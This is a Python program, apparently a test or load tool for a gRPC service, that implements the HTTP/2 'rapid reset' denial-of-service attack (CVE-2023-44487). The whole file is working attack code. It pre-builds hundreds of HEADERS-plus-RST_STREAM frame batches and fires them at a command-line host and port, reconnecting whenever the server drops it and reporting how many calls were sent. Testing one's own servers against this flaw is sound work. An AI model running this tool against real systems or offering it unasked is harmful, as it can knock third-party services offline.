"""A client that begins calls and resets each at once ("rapid reset", CVE-2023-44487), and connects anew whenever it is cut off.

A program of its own: rapid_reset.py SOURCE_ADDRESS HOST PORT SECONDS prints how many calls it sent over how many connections."""

import contextlib
import socket
import struct
import sys
import time

from http2 import HELLO, frame

HEADERS, RESET, END_HEADERS = 1, 3, 4
CANCEL = struct.pack(">I", 8)
FIELDS = [b"\x83", b"\x86",  # :method POST, :scheme http
          *(name + bytes([len(value)]) + value for name, value in (  # into the table of both ends (RFC 7541, 6.2.1)
              (b"\x44", b"/penstock.v1.StageServer/Describe"), (b"\x41", b"localhost"), (b"\x5f", b"application/grpc"),
              (b"\x40\x02te", b"trailers")))]
AGAIN = b"\x83\x86" + bytes([0x80 | 62 + i for i in (3, 2, 1, 0)])  # from the table
BATCH = 500


def calls(first):
    """So many calls, the first stream's number given; each is reset before it asked for anything."""
    return b"".join(frame(HEADERS, END_HEADERS, stream, b"".join(FIELDS) if stream == 1 else AGAIN) + frame(RESET, 0, stream, CANCEL)
                    for stream in range(first, first + 2 * BATCH, 2))


def attack(source, address, until):
    sent = connections = 0
    batches = [calls(1 + 2 * BATCH * i) for i in range(200)]
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5, source_address=(source, 0)) as connection:
            connection.sendall(HELLO)
            connections += 1
            for batch in batches:
                connection.sendall(batch)
                sent += BATCH
                if time.monotonic() > until:
                    break
    return sent, connections


if __name__ == "__main__":
    sent, connections = attack(sys.argv[1], (sys.argv[2], int(sys.argv[3])), time.monotonic() + float(sys.argv[4]))
    print(f"{sent} calls over {connections} connections")
